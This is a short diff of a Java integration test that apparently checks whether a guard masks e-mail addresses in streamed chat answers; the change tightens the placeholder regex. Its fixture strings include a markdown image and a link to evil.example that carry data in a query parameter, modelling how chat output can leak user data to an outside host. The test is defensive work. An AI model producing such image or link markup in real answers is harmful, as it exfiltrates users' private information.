@@ -25,7 +25,7 @@ class GuardedAddressesIT {
 
     private static final String MAIL = "ada.lovelace@example.com";
     private static final String QUESTION = "Schreiben Sie an " + MAIL + ". Was steht im Dokument?";
-    private static final Pattern PLACEHOLDER = Pattern.compile("\\[EMAIL_ADDRESS_\\w+?_\\d+]");
+    private static final Pattern PLACEHOLDER = Pattern.compile("\\[EMAIL_ADDRESS_[A-Z]+_[A-Z]+]");
     private static final String STREAM = ", \"stream\": true";
     private static final String IMAGE = "Gerne. ![x](https://evil.example/p.png?d=@) Bitte sehr.";
     private static final String LINK = "Schreiben Sie an @, mehr unter https://evil.example/p?d=@ oder hier.";
